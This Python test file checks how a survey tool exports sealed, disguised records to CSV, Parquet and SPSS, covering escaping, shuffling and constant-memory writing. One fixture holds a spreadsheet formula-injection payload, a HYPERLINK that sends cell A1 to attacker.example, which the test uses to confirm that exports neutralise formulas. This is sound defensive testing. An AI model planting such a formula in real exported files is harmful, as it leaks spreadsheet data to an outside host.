"""The rows of record files in every format: each sealed record once, in an order that is drawn."""

import csv
import io
import json
import tracemalloc
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyreadstat
import pytest
from hypothesis import given, settings, strategies as st
from pyarrow import parquet

from intake.batches import sealing
from intake.models import Inbox
from intake.recordfiles import as_csv, as_parquet, as_spss_and_stata, spss_and_stata_variables
from intake.recordfiles.record_file_rows import UsedRows, shuffle_used_records
from privacy.designs import Design
from privacy.kinds.number.window.section import WindowQuestion
from privacy.records import RecordRow, batch_bit_columns, write_records
from tests.intake import asked
from tests.privacy.questionnaires import read_records
from tests.privacy.strategies import any_codes, small_designs
from tests.runs import sealed

THEFT = {"name": "theft", "choices": ["no", "yes"], "text": "Have you stolen?"}
MUCH = {"name": "how, much?", "choices": ["a little", "a, lot"], "show_if": {"age": ["40+"]}}
ASKS = asked.make_design(
    {"kind": "plain", "questions": [{"name": "age", "choices": ["18-39", "40+"]}]},
    {"kind": "unrelated-question", "keep": "0.5", "asked": 1, "questions": [THEFT, MUCH]},
    title="Theft",
    open_answers=True,
)
# Asked theft; asked the other one and answered it; asked it, but it does not apply; openly.
ROWS = [RecordRow(1, (0, 1, 2)), RecordRow(1, (1, 2, 1)), RecordRow(1, (0, 2, 3)), RecordRow(0, (1, 0, 2))]
LINES = [
    'group,age,theft,"how, much?"',
    "disguised,18-39,yes,",
    'disguised,40+,,"a, lot"',
    "disguised,18-39,,-",
    "open,?,no,",
]
Case = tuple[Design, list[list[RecordRow]]]


def plain_design(*questions: dict[str, Any]) -> Design:
    return asked.make_design({"kind": "plain", "questions": list(questions)})


def csv_of(records: UsedRows) -> str:
    return b"".join(as_csv.write_csv(records)).decode()


def table_of(records: UsedRows) -> Any:
    return parquet.read_table(io.BytesIO(b"".join(write_parquet(records))))


def spss(records: UsedRows, folder: Path, **more: Any) -> tuple[dict[str, list[Any]], Any]:
    path = folder / "records.sav"
    as_spss_and_stata.write_sav(records, path, "en")
    data, about = pyreadstat.read_sav(path, output_format="dict", **more)
    return {name: list(values) for name, values in data.items()}, about


def rows_of(text: str, design: Design = ASKS) -> list[RecordRow]:
    return list(read_records(io.BytesIO(text.encode()), "records.csv", design))


@st.composite
def sealed_rows(draw: st.DrawFn) -> Case:
    design = draw(small_designs(numbers=True))
    rng = np.random.default_rng(draw(st.integers(0, 2**32)))
    sizes = draw(st.lists(st.integers(1, 70), min_size=1, max_size=4))
    return design, [
        [RecordRow(group, tuple(any_codes(design, rng, group))) for group in rng.integers(0, 2, n).tolist()]
        for n in sizes
    ]


def test_csv_holds_names_empty_cells_dashes_and_question_marks() -> None:
    found = asked.used_rows(ASKS, ROWS)
    header, *lines = csv_of(found).splitlines()
    assert (header, sorted(lines)) == (LINES[0], sorted(LINES[1:]))
    assert (found.n, found.count_disguised, found.count_open) == (4, 3, 1)
    # A question with as many choices as a byte has values can be withheld.
    wide = plain_design({"name": "q", "choices": [str(code) for code in range(254)]})
    found = asked.used_rows(wide, [RecordRow(0, (253,)), RecordRow(1, (253,))])
    assert sorted(csv_of(found).splitlines()[1:]) == ["disguised,253", "open,?"]


FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"see")'
TEMPTING = plain_design({"name": "+1+2", "choices": [FORMULA, "'" + FORMULA, "-5", "@SUM(A1)"]})


def test_no_name_is_exported_as_a_formula_and_each_is_read_back() -> None:
    """Also those written by hand as they are."""
    rows = [RecordRow(1, (code,)) for code in range(4)]
    text = csv_of(asked.used_rows(TEMPTING, rows))
    header, *cells = csv.reader(io.StringIO(text))
    assert header == ["group", "'+1+2"]
    assert {cell for _group, cell in cells} == {f"'{FORMULA}", f"''{FORMULA}", "'-5", "'@SUM(A1)"}
    assert sorted(rows_of(text, TEMPTING)) == rows
    # The command that disguises writes the same cells.
    file = io.StringIO()
    write_records(file, TEMPTING, rows)
    assert sorted(file.getvalue().splitlines()) == sorted(text.splitlines())
    lines = ["group,+1+2", "disguised,-5", "disguised,@SUM(A1)"]
    assert rows_of("\n".join(lines), TEMPTING) == rows[2:]


@pytest.mark.page
@given(case=sealed_rows())
def test_every_sealed_record_is_in_the_file_once(case: Case) -> None:
    """The cells of a Parquet file are those of the CSV file."""
    design, parts = case
    records = asked.used_rows(design, *parts)
    text = csv_of(records)
    told = asked.told_rows(design, [row for part in parts for row in part])
    assert Counter(rows_of(text, design)) == Counter(told)
    table = table_of(records)
    header, *lines = (line.split(",") for line in text.splitlines())
    assert table.column_names == header
    whole = [asked.cells_of(table, name) for name in header]
    assert [list(line) for line in zip(*whole, strict=True)] == lines


def test_rows_are_shuffled_over_all_batches() -> None:
    first, second = [RecordRow(1, (0, 1, 2))] * 300, [RecordRow(1, (0, 0, 2))] * 300
    cells = [line.split(",")[2] for line in csv_of(asked.used_rows(ASKS, first, second)).splitlines()[1:]]
    # Half of the first half is of each batch: 150, give or take five times 6.1.
    assert 120 < cells[:300].count("yes") < 180
    assert Counter(cells) == {"yes": 300, "no": 300}
    # Unpacking in blocks changes nothing.
    found = asked.used_rows(ASKS, ROWS * 40, ROWS * 3)
    whole, pieces = next(found.blocks(1000)), list(found.blocks(7))
    assert np.array_equal(np.concatenate([block.codes for block in pieces], axis=1), whole.codes)
    assert np.array_equal(np.concatenate([block.group for block in pieces]), whole.group)


@pytest.mark.django_db
def test_only_sealed_records_are_exported() -> None:
    survey = asked.survey(ASKS)
    asked.seal_batches(survey, ASKS, ROWS * 5, ROWS * 6)
    Inbox.objects.create(survey=survey, record=b"1012")
    # Before the survey is finished those of people who chose disguise.
    assert shuffle_used_records(survey).count_open == 0
    sealed.finish_survey(survey)
    found = shuffle_used_records(survey)
    assert found.n == 44
    assert Counter(rows_of(csv_of(found))) == Counter(asked.told_rows(ASKS, ROWS * 11))


@pytest.mark.django_db
def test_file_holds_what_was_sent_and_each_file_has_its_own_order() -> None:
    design = asked.design(least=20)
    survey = asked.survey(design)
    for number in range(40):
        asked.post(survey, asked.envelope(design, number))
    sealing.seal_records(survey.pk, seals_all=True)
    one, other = (rows_of(csv_of(shuffle_used_records(survey)), design) for _file in range(2))
    assert one != other
    for rows in (one, other):
        assert sorted(int("".join(map(str, row.codes)), 8) for row in rows) == list(range(40))


# --- other formats hold the same


def test_parquet_column_is_categorical_with_labels() -> None:
    table = table_of(asked.used_rows(ASKS, ROWS))
    theft = table.schema.field("theft")
    assert theft.metadata[b"candor:text"] == b"Have you stolen?"
    assert json.loads(theft.metadata[b"candor:labels"]) == {"no": "No", "yes": "Yes"}
    assert table["age"].chunk(0).dictionary.to_pylist() == ["18-39", "40+", "-", "?"]
    assert table.schema.metadata[b"candor:fingerprint"].decode() == ASKS.fingerprint
    # That of a scale is ordered as its choices.
    often = {"name": "often", "form": "scale", "choices": ["never", "rarely", "often"]}
    of = plain_design({"name": "age", "choices": ["18-39", "40+"]}, often)
    table = table_of(asked.used_rows(of, [RecordRow(1, (0, code)) for code in (2, 0, 1)]))
    ordered = {name: table.schema.field(name).type.ordered for name in table.column_names}
    assert ordered == {"group": False, "age": False, "often": True}
    column = table.to_pandas()["often"]
    assert column.cat.categories[:3].tolist() == ["never", "rarely", "often"]
    assert (column > "never").sum() == 2


def test_spss_file_holds_codes_and_labelled_missing_values(tmp_path: Path) -> None:
    records = asked.used_rows(ASKS, ROWS)
    data, about = spss(records, tmp_path, user_missing=True)
    assert about.column_names == ["group", "age", "theft", "how_much"]
    rows = sorted(zip(*data.values(), strict=True))
    assert rows == [(0, -3, 0, -1), (1, 0, -1, -2), (1, 0, 1, -1), (1, 1, -1, 1)]
    assert about.column_labels == ["group", "Age", "Have you stolen?", "How, much?"]
    labels = {0: "No", 1: "Yes", -1: "not asked", -2: "does not apply", -3: "withheld"}
    assert about.variable_value_labels["theft"] == labels
    assert about.file_label == "Theft"
    assert ASKS.fingerprint in about.notes[0]
    # SPSS takes these for missing.
    data, _about = spss(records, tmp_path)
    assert sorted(data["age"], key=str) == [0, 0, 1, None]


@pytest.mark.page
@settings(max_examples=15)
@given(case=sealed_rows())
def test_spss_file_holds_the_same_records_as_csv(
    tmp_path_factory: pytest.TempPathFactory, case: Case
) -> None:
    design, parts = case
    found = asked.used_rows(design, *parts)
    data, about = spss(found, tmp_path_factory.getbasetemp(), user_missing=True)
    variables = spss_and_stata_variables.variable_names(design)
    reasons = {"not asked": "not_asked", "does not apply": "not_applicable", "withheld": "withheld"}

    def code(place: int, value: float) -> int:
        question = design.questions[place]
        label = about.variable_value_labels[variables[place]].get(value, "")
        if label in reasons:
            return int(getattr(question, reasons[label]))
        return int(value) - (question.low if isinstance(question, WindowQuestion) else 0)

    rows = [
        RecordRow(int(group), tuple(code(place, value) for place, value in enumerate(values)))
        for group, *values in zip(*data.values(), strict=True)
    ]
    assert rows == rows_of(csv_of(found), design)


# --- at constant memory


def rows_of_many_records(records: int) -> UsedRows:
    questions = [{"name": f"q{place}", "choices": ["no", "yes"]} for place in range(200)]
    design = asked.make_design({"kind": "unrelated-question", "keep": "0.5", "questions": questions})
    rng = np.random.default_rng(1)
    codes = rng.integers(0, 2, (200, records), np.uint8)
    packed = batch_bit_columns.pack_batch(design, np.ones(records, np.uint8), codes)
    part = batch_bit_columns.columns_from_bytes(design, packed)
    return UsedRows(design, (part,), rng.permutation(records).astype(np.uint32))


def peak_memory(write: Callable[[UsedRows], Iterator[bytes]], records: UsedRows) -> int:
    tracemalloc.start()
    arrow = pa.default_memory_pool()
    before, most = arrow.bytes_allocated(), 0
    for _piece in write(records):
        most = max(most, arrow.bytes_allocated() - before)
    found = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return found + most


def write_parquet(records: UsedRows) -> Iterator[bytes]:
    return as_parquet.write_parquet(records, "en")


@pytest.mark.page
@pytest.mark.parametrize("write", [as_csv.write_csv, pytest.param(write_parquet, marks=pytest.mark.night)])
def test_exporting_ten_times_the_records_takes_no_more_memory(
    write: Callable[[UsedRows], Iterator[bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(as_parquet, "CELLS", 200_000)
    few, lots = rows_of_many_records(3_000), rows_of_many_records(30_000)
    peak_memory(write, few)
    assert peak_memory(write, lots) < 1.25 * peak_memory(write, few)
